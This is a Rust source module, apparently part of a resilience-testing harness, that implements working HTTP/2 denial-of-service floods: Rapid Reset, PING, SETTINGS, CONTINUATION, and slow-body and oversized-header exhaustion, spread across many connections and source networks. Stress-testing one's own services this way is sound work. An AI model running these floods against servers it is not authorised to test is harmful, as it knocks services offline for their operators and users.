//! Floods of HTTP/2 frames.

use std::io;
use std::rc::Rc;
use std::time::Duration;

use async_trait::async_trait;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, block,
    frame, settings,
};
use super::{Attack, Effort, Target, add, network};

/// Of what.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams that are reset as soon as they are opened.
    RapidReset,
    /// PINGs, whose answers nobody reads.
    Ping,
    /// SETTINGS, whose answers nobody reads.
    Settings,
    /// One head without an end.
    Continuation,
    /// All streams with bodies that never come; PINGs are answered.
    Bodies,
    /// The same with heads as large as they may be.
    Heads,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::RapidReset, Self::Ping, Self::Settings, Self::Continuation, Self::Bodies, Self::Heads];
}

/// Who floods.
#[derive(Debug, Clone)]
pub struct Flooder {
    /// With what.
    pub flood: Flood,
    /// Connections at a time; one that is ended is made anew.
    pub connections: usize,
    /// They come from so many networks.
    pub networks: usize,
}

#[async_trait(?Send)]
impl Attack for Flooder {
    fn name(&self) -> String {
        let Self { flood, connections, networks } = self;
        format!("HTTP/2 {flood:?}: {connections} from {networks} networks")
    }

    async fn run(&self, target: Target, effort: Rc<Effort>) {
        let mut floods = JoinSet::new();
        for number in 0..self.connections {
            let (target, effort) = (target.clone(), Rc::clone(&effort));
            let Self { flood, networks, .. } = *self;
            floods.spawn_local(async move {
                loop {
                    drop(one(&target, network(number % networks), flood, &effort).await);
                    add(&effort.ended, 1);
                    sleep(Duration::from_millis(20)).await;
                }
            });
        }
        effort.ready.set(true);
        std::future::pending::<()>().await;
    }
}

async fn one(target: &Target, from: std::net::IpAddr, flood: Flood, effort: &Effort) -> io::Result<()> {
    let mut stream = target.tls(from, true, None).await?;
    add(&effort.connections, 1);
    stream.write_all(&[PREFACE, &settings(65_535)].concat()).await?;
    let get = block("GET", "/healthz", &[]);
    match flood {
        Flood::RapidReset => {
            let (mut read, mut write) = tokio::io::split(stream);
            let sending = async {
                let mut id = 1;
                loop {
                    let mut some = Vec::new();
                    for _ in 0..100 {
                        some.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &get));
                        some.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                        id += 2;
                    }
                    write.write_all(&some).await?;
                    write.flush().await?;
                    add(&effort.requests, 100);
                    tokio::task::yield_now().await;
                }
            };
            let reading = async {
                let mut some = [0; 4096];
                while read.read(&mut some).await? > 0 {}
                Ok(())
            };
            tokio::select! { ended = sending => ended, ended = reading => ended }
        }
        Flood::Ping => repeat(stream, &frame(PING, 0, 0, &[7; 8]), effort).await,
        Flood::Settings => repeat(stream, &settings(65_535), effort).await,
        Flood::Continuation => {
            stream.write_all(&frame(HEADERS, 0, 1, &get)).await?;
            repeat(
                stream,
                &frame(CONTINUATION, 0, 1, &block("GET", "/", &[("x", &"y".repeat(1000))])),
                effort,
            )
            .await
        }
        Flood::Bodies | Flood::Heads => {
            let long = "y".repeat(12_000);
            let mut more = vec![("content-type", "application/json"), ("content-length", "60000")];
            if flood == Flood::Heads {
                more.push(("x-long", &long));
            }
            let post = block("POST", "/v1/join/complete", &more);
            for id in (1..16).step_by(2) {
                let mut some = frame(HEADERS, END_HEADERS, id, &post);
                some.extend(frame(DATA, 0, id, &[b'{'; 8000]));
                stream.write_all(&some).await?;
                add(&effort.requests, 1);
            }
            stream.flush().await?;
            Peer::new(stream).answer_pings().await
        }
    }
}

/// The same frame again and again, and nothing is read.
async fn repeat(mut stream: impl AsyncWrite + Unpin, frame: &[u8], effort: &Effort) -> io::Result<()> {
    let some = frame.repeat(200);
    loop {
        stream.write_all(&some).await?;
        stream.flush().await?;
        add(&effort.requests, 200);
        tokio::task::yield_now().await;
    }
}

/// The rest of a connection: whoever is asked whether he is alive says yes.
pub(super) struct Peer<S>(S);

impl<S: AsyncRead + AsyncWrite + Unpin> Peer<S> {
    pub(super) fn new(stream: S) -> Self {
        Self(stream)
    }

    /// Until the server ends it.
    pub(super) async fn answer_pings(&mut self) -> io::Result<()> {
        loop {
            let mut head = [0; 9];
            self.0.read_exact(&mut head).await?;
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut payload = vec![0; usize::try_from(length).unwrap_or(0)];
            self.0.read_exact(&mut payload).await?;
            match (head[3], head[4] & ACK) {
                (PING, 0) => self.0.write_all(&frame(PING, ACK, 0, &payload)).await?,
                (SETTINGS, 0) => self.0.write_all(&frame(SETTINGS, ACK, 0, &[])).await?,
                _ => continue,
            }
            self.0.flush().await?;
        }
    }
}
